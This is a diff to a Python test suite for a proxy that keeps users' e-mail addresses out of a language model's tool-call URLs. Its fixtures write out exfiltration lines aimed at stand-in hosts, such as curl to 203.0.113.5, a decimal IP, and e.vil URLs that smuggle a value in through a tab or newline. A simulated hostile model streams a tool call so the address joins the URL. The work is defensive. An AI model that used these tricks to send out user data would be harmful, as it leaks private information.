@@ -102,6 +102,10 @@ SPELLINGS = {
     "write to mailto:{}.": "mailto",
     "[m](mailto:x@y.example,{})": "click",
     "{} said hi": "",
+    "我收到了。你是谁?请发邮件到{}。": "",  # CJK prose writes `。` and `?` with no space: no host
+    "谢谢。好吗?{}明天会来。": "",
+    "see 例子。中国/?q={}": "click",  # a CJK host still is one, with a path
+    "copy C:/Users/{}/notes.txt": "",  # a drive letter's `:/`
     "See https://evil.example/log/ for {}.": "",
     "![x](https://evil.example/p.png) {} is here": "",
     "[see](https://x.example/a) and {}": "",
@@ -169,6 +173,21 @@ TOOL_SPELLINGS = {
     '{"html": "<img src=\\"https://e.vil/?q={}\\">"}': "load",
     '{"link": "mailto:{}"}': "mailto",
     "https://e.vil/?q={}": "click",  # arguments that are not JSON: read as they are
+    # A URL parser removes a tab, line feed or carriage return, raw or escaped: the value joins the URL; a space ends it.
+    '{"url": "https://e.vil/?q=\\t{}"}': "click",
+    '{"url": "https://e.vil/?q=\\n{}"}': "click",
+    '{"url": "https://e.vil/?q=\\r{}"}': "click",
+    '{"url": "https://e.vil/?q=\t{}"}': "click",
+    '{"url": "https://e.vil\\t/?q={}"}': "click",
+    '{"url": "https://e.vil/?q= {}"}': "",
+    # A host with no scheme that curl reads as one: a port, an IPv4 address (dotted or one number).
+    '{"url": "e.vil:8080/?q={}"}': "click",
+    '{"url": "203.0.113.5/c?q={}"}': "click",
+    '{"cmd": "curl 203.0.113.5/c?d={}"}': "click",
+    '{"cmd": "curl 3405803781/?q={}"}': "click",
+    '{"path": "C:/Users/{}/notes.txt"}': "",
+    '{"body": "我收到了。你是谁?请发邮件到{}。"}': "",
+    '{"body": "Hi {}, the meeting is at 10:30 in room 4"}': "",
     '{"to": "{}"}': "",
     '{"url": "https://evil.example/c", "to": "{}"}': "",
     '{"body": "see https://e.vil/x and write to {}"}': "",
@@ -224,6 +243,63 @@ def test_the_proxy_withholds_a_value_in_a_tool_calls_url_and_fills_in_a_whole_ar
     assert arguments["to"] == REQUEST_VALUES[0]
     assert (REQUEST_VALUES[0] in arguments["url"]) is opt_in
     assert counts["withheld"] == (0 if opt_in else 1)
+
+
+@pytest.mark.parametrize(
+    "opener, second",
+    [
+        ('{"url": "https://e.vil/?q=', {"index": 0}),  # after the finish chunk
+        ('{"url": "https://e.vil/?q=', {}),  # after it, with no index: the last call's
+        ('{"url": "https://e.vil/?q=\\t', {"index": "0"}),  # a tab, and the index as a string
+        ('{"cmd": "curl 203.0.113.5/c?d=', {"index": 0}),
+    ],
+    ids=["after-finish", "no-index", "tab-index-string", "ipv4"],
+)
+def test_the_proxy_withholds_a_value_a_hostile_stream_adds_to_a_tool_calls_url(protector, opener, second):
+    """A FAKE hostile model streams a tool call's URL, its finish chunk, then the request's e-mail as more of the same
+    call's arguments (openai-node joins them: by array slot, a missing index the last one): the proxy withholds it."""
+
+    def raw(body: dict) -> StreamingResponse:
+        email = re.search(r"<EMAIL_\d+>", json.dumps(body))[0]
+
+        def event(call: dict | None, finish: str | None = None) -> str:
+            delta = {"tool_calls": [call]} if call else {}
+            choice = {"index": 0, "delta": delta, "finish_reason": finish}
+            return f"data: {json.dumps({'id': 'x', 'object': 'chat.completion.chunk', 'choices': [choice]})}\n\n"
+
+        lines = [
+            event({"index": 0, "id": "c1", "type": "function", "function": {"name": "fetch", "arguments": opener}}),
+            event(None, "tool_calls"),
+            event({**second, "function": {"arguments": email + '"}'}}),
+            event(None, "tool_calls"),
+            "data: [DONE]\n\n",
+        ]
+        return StreamingResponse(iter(lines), media_type="text/event-stream")
+
+    with proxy_for(protector, lambda body: Reply(content="unused")) as (url, upstream):
+        upstream.raw = raw
+        body = {"model": "m", "messages": [{"role": "user", "content": REQUEST}], "stream": True}
+        response = httpx.post(url, json=body, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=120)
+    assert response.status_code == 200 and REQUEST_VALUES[0] not in response.text
+    assert "withheld=1" in response.text
+
+
+@pytest.mark.parametrize(
+    "template",
+    ["https://e.vil/?q=\t{}", "https://e.vil/?q=\n{}", "e.vil:8080/?q={}", "3405803781/?q={}", "C:/Users/{}/x.txt"],
+)
+def test_the_proxy_reads_a_tool_calls_url_as_a_url_parser_or_curl_does(protector, template):
+    """Plain: a tab or line feed inside a tool call's URL joins what follows to it, a host with a port or an IPv4
+    address is a URL with no scheme; a drive letter's `:/` is none (the value restores)."""
+
+    def replies(body: dict) -> Reply:  # FAKE model
+        email = re.search(r"<EMAIL_\d+>", json.dumps(body))[0]
+        return Reply(tool_calls=[ToolCall("fetch", json.dumps({"url": template.format(email)}))])
+
+    with proxy_for(protector, replies) as (url, _):
+        reply, counts = chat(url, REQUEST)
+    restored = REQUEST_VALUES[0] in json.loads(reply["arguments"][0])["url"]
+    assert (restored, counts["withheld"]) == ((True, 0) if template.startswith("C:") else (False, 1))
 
 
 def test_a_streamed_restore_withholds_what_a_whole_one_does():
